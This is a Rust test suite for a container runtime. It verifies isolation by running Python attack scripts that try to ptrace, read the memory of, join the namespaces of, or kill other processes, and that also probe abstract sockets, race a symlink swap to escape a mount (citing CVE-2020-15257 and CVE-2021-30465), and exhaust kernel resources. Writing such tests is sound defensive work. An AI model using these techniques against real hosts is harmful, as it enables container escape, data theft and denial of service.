//! Attacks on other containers, and on the server and the monitors: through processes that are seen, shared folders, shared
//! memory, and sockets without a file.

use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};

use belljar_testbed::{Server, process};
use serde_json::{Value, json};

use super::{arena, attack, attack_by_exec, attacker};

/// Everything that one process can do to another, for each pid after the word `victims`; and what it got hold of.
const ASSAULT: &str = r#"
libc.ptrace.argtypes = [ctypes.c_long] * 4
libc.ptrace.restype = ctypes.c_long
def checked(result):
    if result < 0: raise OSError(ctypes.get_errno(), "")
    return result
def trace(pid):
    checked(libc.ptrace(16, pid, 0, 0)); os.waitpid(pid, 0x40000000); libc.ptrace(17, pid, 0, 0)
def seize(pid): checked(libc.ptrace(0x4206, pid, 0, 0)); libc.ptrace(17, pid, 0, 0)
def read_memory(pid):
    buffer = ctypes.create_string_buffer(16)
    call("process_vm_readv", pid, (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16), 1, (ctypes.c_size_t * 2)(0x400000, 16), 1, 0)
def take(pid): call("pidfd_getfd", call("pidfd_open", pid, 0), 0, 0)
def join(kind):
    def enter(pid): call("setns", call("pidfd_open", pid, 0), kind)
    return enter
def opened(name, flags):
    return lambda pid: os.open("/proc/%d/%s" % (pid, name), flags)
def wrote(name, text): return lambda pid: written("/proc/%d/%s" % (pid, name), text)
WAYS = {"root": lambda pid: os.listdir("/proc/%d/root/" % pid), "folder": lambda pid: os.listdir("/proc/%d/cwd/" % pid), "descriptors": lambda pid: [os.readlink("/proc/%d/fd/%s" % (pid, name)) for name in os.listdir("/proc/%d/fd" % pid)],
    "executable": opened("exe", os.O_RDONLY), "write executable": opened("exe", os.O_WRONLY), "memory": opened("mem", os.O_RDWR), "environment": lambda pid: open("/proc/%d/environ" % pid).read(1),
    "maps": lambda pid: open("/proc/%d/maps" % pid).read(1), "system call": lambda pid: open("/proc/%d/syscall" % pid).read(1), "stack": lambda pid: open("/proc/%d/stack" % pid).read(1),
    "trace": trace, "seize": seize, "read memory": read_memory, "take a descriptor": take, "enter mnt": join(0x20000), "enter user": join(0x10000000), "enter net": join(0x40000000), "enter pid": join(0x20000000),
    "namespace file": opened("ns/mnt", os.O_RDONLY), "stop": lambda pid: os.kill(pid, signal.SIGSTOP), "kill": lambda pid: os.kill(pid, signal.SIGKILL), "limit": lambda pid: __import__("resource").prlimit(pid, 7, (1, 1)),
    "oom": wrote("oom_score_adj", b"1000"), "map": wrote("uid_map", b"0 0 1"), "attribute": wrote("attr/current", b"x"), "timer": wrote("timerslack_ns", b"1"), "forget": wrote("clear_refs", b"1"),
    "nice": lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19), "pin": lambda pid: os.sched_setaffinity(pid, [0]), "schedule": lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))}
for pid in VICTIMS:
    for way, attempt in WAYS.items():
        child = os.fork()
        if child == 0:
            tried("%d %s" % (pid, way), attempt, pid); os._exit(0)
        os.waitpid(child, 0)
"#;

/// Panics where the attacker got anything out of, or did anything to, one of `victims`.
#[track_caller]
fn assault(server: &Server, name: &str, options: &Value, victims: &[i32]) {
    let attempts = attack(server, name, &format!("VICTIMS = {victims:?}\n{ASSAULT}"), options);
    let mut made = 0;
    for line in attempts.0.lines() {
        let result = line.rsplit(": ").next().unwrap_or_default();
        assert!(["EPERM", "EACCES", "ESRCH", "EIO", "ENOENT"].contains(&result), "{name}: {line}\n{}", attempts.0);
        made += 1;
    }
    assert!(made >= victims.len() * 30, "{name}: {made} attempts");
    for victim in victims {
        assert!(process::is_alive(*victim), "{name} ended {victim}");
        assert!(!process::status_field(*victim, "State").is_some_and(|state| state.starts_with('T')), "{name} stopped {victim}");
    }
}

fn pid(server: &Server, name: &str) -> i32 {
    i32::try_from(server.container(name)["pid"].as_i64().expect("it runs")).expect("a pid")
}

/// All that one's own user namespace can give, without the filter.
fn mighty() -> Value {
    json!({"seccomp": "unconfined", "capabilities": {"add": ["ALL"]}})
}

#[test]
fn among_the_hosts_processes_nobody_else_is_touched() {
    let Some(server) = arena() else { return };
    server.run_script("abel", "exec sleep 1d");
    let abel = pid(&server, "abel");
    let monitor = process::parent(abel).unwrap();
    let spawner = process::pids().into_iter().find(|pid| process::parent(*pid) == Some(server.pid())).expect("a spawner");
    let victims = [abel, monitor, spawner, server.pid(), i32::try_from(std::process::id()).unwrap()];
    for (name, security) in [("cain", json!({})), ("mighty-cain", mighty())] {
        assault(&server, name, &json!({"namespaces": {"pid": "host"}, "security": security}), &victims);
    }
    assert_eq!(server.container("abel")["state"], "running");
    // The host's own root, in a container: it sees the monitors, but has less than they.
    let options = json!({"namespaces": {"pid": "host", "user": "host"}});
    let victims_of_root = [monitor, spawner, server.pid()];
    let script = format!("VICTIMS = {victims_of_root:?}\n{ASSAULT}")
        .replace("for way, attempt in WAYS.items():", "for way, attempt in WAYS.items():\n        if way in HARM: continue");
    // What a user may do to its own processes, root of the host may do to root's: that is what sharing both means, and is told.
    let script =
        format!("HARM = ['stop', 'kill', 'limit', 'oom', 'nice', 'pin', 'schedule', 'timer', 'forget', 'attribute', 'map']\n{script}");
    let attempts = attack(&server, "root-cain", &script, &options);
    for victim in victims_of_root {
        for way in [
            "root",
            "folder",
            "descriptors",
            "executable",
            "write executable",
            "memory",
            "environment",
            "maps",
            "trace",
            "seize",
            "read memory",
            "take a descriptor",
            "enter mnt",
            "enter user",
            "namespace file",
        ] {
            attempts.ended(&format!("{victim} {way}"), &["EPERM", "EACCES"]);
        }
    }
}

#[test]
fn who_shares_a_pid_namespace_but_not_the_ids_touches_nobody() {
    let Some(server) = arena() else { return };
    server.run_script("abel", "exec sleep 1d");
    let body = attacker("cain", ASSAULT, &json!({"namespaces": {"pid": "container:abel", "user": "private"}}));
    let problem = server.api().post_json("/api/v1/containers", &body).expect(422).json();
    assert_eq!(problem["field"], "namespaces.pid", "such a pair is not made: {problem}");
    // Who joins the ids as well is one with it, and still nobody to the host.
    let attempts = attack(
        &server,
        "cain",
        "said('processes', sorted(int(name) for name in os.listdir('/proc') if name.isdigit()))\ntried('stop', os.kill, 1, signal.SIGSTOP)\ntried('kill', os.kill, 1, signal.SIGKILL)",
        &json!({"namespaces": {"pid": "container:abel"}}),
    );
    assert_eq!(attempts.result("processes").split(',').count(), 2, "the other's and its own: {}", attempts.0);
    // From inside, a first process is neither stopped nor killed by a signal that it does not expect.
    attempts.all_ended(&["stop", "kill"], &["done"]);
    assert_eq!(server.container("abel")["state"], "running");
}

#[test]
fn shared_memory_queues_and_abstract_sockets_are_each_containers_own() {
    let Some(server) = arena() else { return };
    let offer = r#"
segment = call("shmget", 0x4242, 4096, 0o1666); libc.shmat.restype = ctypes.c_void_p
ctypes.memmove(libc.shmat(segment, None, 0), b"abel's", 6)
open("/dev/shm/abel", "w").write("abel's"); os.chmod("/dev/shm/abel", 0o666)
listener = socket.socket(socket.AF_UNIX); listener.bind("\0abel"); listener.listen()
rt = ctypes.CDLL("librt.so.1", use_errno=True); queue = rt.mq_open(b"/abel", 0o102, 0o666, None)
said("offered", segment); time.sleep(1000)"#;
    server.create(&attacker("abel", offer, &json!({})));
    server.wait_for_log("abel", "offered");
    let take = r#"
tried("segment", call, "shmget", 0x4242, 4096, 0)
tried("any segment", call, "shmat", 0, 0, 0)
tried("shm file", open, "/dev/shm/abel")
tried("socket", socket.socket(socket.AF_UNIX).connect, "\0abel")
rt = ctypes.CDLL("librt.so.1", use_errno=True)
def queue():
    if rt.mq_open(b"/abel", 2) < 0: raise OSError(ctypes.get_errno(), "")
tried("queue", queue)
said("segments", len(open("/proc/sysvipc/shm").readlines()) - 1); said("abstract", open("/proc/net/unix").read().count("@"))
tried("own name", socket.socket(socket.AF_UNIX).bind, "\0abel")"#;
    let attempts = attack(&server, "cain", take, &json!({}));
    attempts.all_ended(&["segment", "shm file", "queue"], &["ENOENT"]);
    attempts.ended("any segment", &["EINVAL", "EIDRM"]);
    attempts.ended("socket", &["ECONNREFUSED"]);
    attempts.ended("own name", &["done"]);
    assert_eq!((attempts.result("segments"), attempts.result("abstract")), ("0", "0"));
    // The attack is one: inside, all of it is there.
    let own = attack_by_exec(&server, "abel", take);
    own.all_ended(&["segment", "shm file", "queue", "socket"], &["done"]);
}

/// CVE-2020-15257: in the host's network every abstract socket can be reached; none may be ours.
#[test]
fn in_the_hosts_network_nothing_of_ours_answers_without_a_login() {
    let Some(server) = arena() else { return };
    let other = server.run_script("bystander", "exec sleep 1d");
    assert_eq!(other["state"], "running");
    let script = format!(
        r#"
import urllib.request, urllib.error
names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line.split()[-1]]
for name in names:
    probe = socket.socket(socket.AF_UNIX); probe.settimeout(0.3)
    try: probe.connect("\0" + name[1:]); said("reached", name)
    except (OSError, ValueError): pass
said("abstract sockets", len(names)); said("ours", [name for name in names if "belljar" in name.lower()])
paths = [line.split()[-1] for line in open("/proc/net/unix") if line.split()[-1].endswith("belljar.sock")]
said("paths of ours seen", len(paths) > 0)
for path in paths: tried("socket by its path", socket.socket(socket.AF_UNIX).connect, path)
for path in "containers", "containers/bystander", "images", "events":
    try: said("GET " + path, urllib.request.urlopen("http://{address}/api/v1/" + path, timeout=5).status)
    except urllib.error.HTTPError as error: said("GET " + path, error.code)
def post(): return urllib.request.urlopen(urllib.request.Request("http://{address}/api/v1/containers", b'{{"image":"host","command":["true"]}}', {{"Content-Type": "application/json"}}), timeout=5).status
try: said("POST", post())
except urllib.error.HTTPError as error: said("POST", error.code)
"#,
        address = server.address()
    );
    let attempts = attack(&server, "neighbour", &script, &json!({"namespaces": {"net": "host"}}));
    assert_eq!(attempts.result("ours"), "[]");
    assert_eq!(attempts.result("paths of ours seen"), "True");
    assert!(attempts.results("socket by its path").iter().all(|result| *result == "ENOENT"), "{}", attempts.0);
    for request in ["GET containers", "GET containers/bystander", "GET images", "GET events", "POST"] {
        attempts.ended(request, &["401", "403"]);
    }
}

/// CVE-2021-30465: a folder of a shared volume is a folder at one moment and a link to the host's at the next.
#[test]
fn a_mount_in_a_volume_that_another_container_changes_never_lands_outside() {
    let Some(server) = arena() else { return };
    let (volume, canary) = (server.scratch("volume"), server.scratch("canary"));
    fs::create_dir_all(volume.join("dir/inner")).unwrap();
    fs::write(canary.join("mark"), "outside").unwrap();
    std::os::unix::fs::symlink(&canary, volume.join("link")).unwrap();
    std::os::unix::fs::symlink("/", volume.join("root")).unwrap();
    let table =
        || fs::read_to_string("/proc/self/mountinfo").unwrap().lines().filter(|line| line.contains("belljar-attack-canary")).count();
    let swapper = r#"
swaps = 0
said("swapping", "begun")
while not os.path.exists("/srv/enough"):
    for other in b"/srv/link", b"/srv/root":
        for turn in 0, 1:
            if libc.renameat2(-100, b"/srv/dir", -100, other, 2) == 0: swaps += 1
said("swaps", swaps)
"#;
    let shared = json!({"type": "bind", "source": volume, "target": "/srv"});
    server.create(&attacker("cain", swapper, &json!({"mounts": [shared]})));
    server.wait_for_log("cain", "swapping");
    let ask = "test -e /srv/dir/inner/tmp-mark; grep -c ' /srv/' /proc/self/mountinfo; touch /srv/dir/inner/made; cat /srv/dir/mark 2>/dev/null; true";
    let (begun, mut started, mut refused) = (Instant::now(), 0, 0);
    while begun.elapsed() < Duration::from_secs(3) {
        let name = format!("abel-{}", started + refused);
        let mounts = json!([shared, {"type": "tmpfs", "target": "/srv/dir/inner"}, {"type": "tmpfs", "target": "/srv/dir/new/deep"}]);
        server.create(&json!({"image": "host", "name": name, "mounts": mounts, "command": ["sh", "-c", ask]}));
        let ended = server.wait_for_state(&name, "stopped");
        if ended["exit"]["kind"] == "never_started" {
            refused += 1
        } else {
            started += 1
        }
        assert!(!server.logs(&name).contains("outside"), "{}", server.logs(&name));
    }
    fs::write(volume.join("enough"), "").unwrap();
    server.wait_for_state("cain", "stopped");
    let log = server.logs("cain");
    let swaps: u32 = log.lines().find_map(|line| line.strip_prefix("swaps: ")?.parse().ok()).unwrap_or_else(|| panic!("{log}"));
    println!("{swaps} swaps, {started} started, {refused} refused");
    assert!(swaps > 100 && started + refused > 5);
    let left: Vec<_> = fs::read_dir(&canary).unwrap().flatten().map(|entry| entry.file_name()).collect();
    assert_eq!(left, ["mark"], "nothing was made outside");
    assert!(!Path::new("/inner").exists() && !Path::new("/new").exists() && table() == 0);
}

/// What one may use up, others still have: instances of inotify, queued signals, message queues, descriptors.
#[test]
fn what_one_container_uses_up_is_its_own_share() {
    let Some(server) = arena() else { return };
    let greedy = r#"
import resource
def until_refused(name, most, one):
    count = 0
    try:
        while count < most: one(count); count += 1
        said(name, "%d and no end" % count)
    except OSError as error: said(name, "%d then %s" % (count, named(error.errno)))
def inotify(count):
    if libc.inotify_init() < 0: raise OSError(ctypes.get_errno(), "")
until_refused("inotify", 100000, inotify)
rt = ctypes.CDLL("librt.so.1", use_errno=True)
def queue(count):
    if rt.mq_open(b"/q%d" % count, 0o102, 0o600, None) < 0: raise OSError(ctypes.get_errno(), "")
until_refused("queues", 5000, queue)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
class Value(ctypes.Union): _fields_ = [("number", ctypes.c_int), ("pointer", ctypes.c_void_p)]
libc.sigqueue.argtypes = [ctypes.c_int, ctypes.c_int, Value]
def queued(count):
    if libc.sigqueue(os.getpid(), signal.SIGRTMIN, Value(1)) < 0: raise OSError(ctypes.get_errno(), "")
until_refused("signals", 500000, queued)
until_refused("descriptors", 2000000, lambda count: os.open("/dev/null", os.O_RDONLY))
said("all", "taken"); sys.stdout.flush()
while True: time.sleep(1000)
"#;
    server.create(&attacker("greedy", greedy, &json!({"ulimits": {"nofile": {"soft": 4096, "hard": 4096}}})));
    let taken = super::Attempts(server.wait_for_log("greedy", "all: taken"));
    for what in ["inotify", "queues", "signals", "descriptors"] {
        let result = taken.result(what);
        assert!(result.ends_with("then EMFILE") || result.ends_with("then EAGAIN"), "it took all that it could get: {}", taken.0);
    }
    let modest = r#"
rt = ctypes.CDLL("librt.so.1", use_errno=True)
def checked(result):
    if result < 0: raise OSError(ctypes.get_errno(), "")
tried("inotify", lambda: checked(libc.inotify_init()))
tried("queue", lambda: checked(rt.mq_open(b"/belljar-attack", 0o102, 0o600, None))); rt.mq_unlink(b"/belljar-attack")
timer = ctypes.c_void_p()
tried("timer", lambda: checked(rt.timer_create(0, None, ctypes.byref(timer))))
tried("descriptor", os.open, "/dev/null", os.O_RDONLY)
"#;
    let other = attack(&server, "modest", modest, &json!({}));
    other.all_ended(&["inotify", "queue", "timer", "descriptor"], &["done"]);
    let script = format!("{}{modest}", super::ATTACKER);
    let host = std::process::Command::new("/usr/bin/python3").args(["-c", &script]).output().unwrap();
    let host = super::Attempts(String::from_utf8_lossy(&host.stdout).into_owned());
    host.all_ended(&["inotify", "queue", "timer", "descriptor"], &["done"]);
}
